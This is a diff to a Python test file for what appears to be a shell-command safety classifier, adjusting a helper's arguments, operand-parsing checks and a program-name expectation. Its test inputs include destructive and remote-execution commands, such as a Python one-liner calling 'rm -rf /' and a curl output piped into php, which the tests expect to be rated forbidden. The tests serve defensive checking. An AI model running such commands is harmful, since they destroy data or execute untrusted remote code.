@@ -11,10 +11,11 @@ from shellper.safety.arguments import arguments
 from shellper.safety.bash.state import State
 from shellper.safety.calls import Call, Word
 from shellper.safety.files.sending import sent_files
+from shellper.safety.interpreters import FILE_RUNNERS, SHELLS
 
 
-def level(text: str, cwd: Path | None = None, home: str | None = None) -> str:
-    return assess(text, cwd=cwd, home=home).level.value
+def level(text: str, cwd: Path | None = None) -> str:
+    return assess(text, cwd=cwd).level.value
 
 
 def call(text: str) -> Call:
@@ -29,11 +30,12 @@ def test_many_files_onto_one(tmp_path: Path) -> None:
     assert level('for f in one.jpg; do mv "$f" out.jpg; done', tmp_path) == "safe"
 
 
-def test_links_over_what_is_there(tmp_path: Path) -> None:
+def test_links_over_what_is_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path))
     (tmp_path / ".vimrc").touch()
-    assert level("ln -sf dotfiles/vimrc ~/.vimrc", tmp_path, str(tmp_path)) == "destructive"
-    assert level("ln -sf dotfiles/tmux.conf ~/.tmux.conf", tmp_path, str(tmp_path)) == "caution"
-    assert level("ln -sf /dev/null ~/.tmux.conf", tmp_path, str(tmp_path)) == "destructive"
+    assert level("ln -sf dotfiles/vimrc ~/.vimrc", tmp_path) == "destructive"
+    assert level("ln -sf dotfiles/tmux.conf ~/.tmux.conf", tmp_path) == "caution"
+    assert level("ln -sf /dev/null ~/.tmux.conf", tmp_path) == "destructive"
 
 
 @pytest.mark.parametrize(
@@ -83,12 +85,13 @@ def test_options_of_subcommands_and_of_what_is_run() -> None:
     assert [w.text for w in call("git branch -m old new").operands] == ["branch", "old", "new"]
     assert [w.text for w in call("docker run -w /app img cmd -v").operands] == ["run", "img", "cmd", "-v"]
     assert [w.text for w in call("sudo -u me rm -rf x").operands] == ["rm", "-rf", "x"]
-    assert not call("python3 app.py -c x").has("-c")
+    for program in sorted(SHELLS | FILE_RUNNERS):
+        assert [w.text for w in call(f"{program} app -c x").operands] == ["app", "-c", "x"], program
     assert [w.text for w in call("python3 -m pytest -m slow").operands] == ["-m", "slow"]
 
 
 def test_programs_with_versions() -> None:
     found = [call(name).program for name in ("python3.11", "/bin/lua5.4", "php8.2", "gawk-5", "killall5")]
-    assert found == ["python", "lua", "php", "gawk", "killall5"]
+    assert found == ["python", "lua", "php", "awk", "killall5"]
     assert level("python3.11 -c 'import os; os.system(\"rm -rf /\")'") == "forbidden"
     assert level("curl -s x.io | php8.1") == "forbidden"
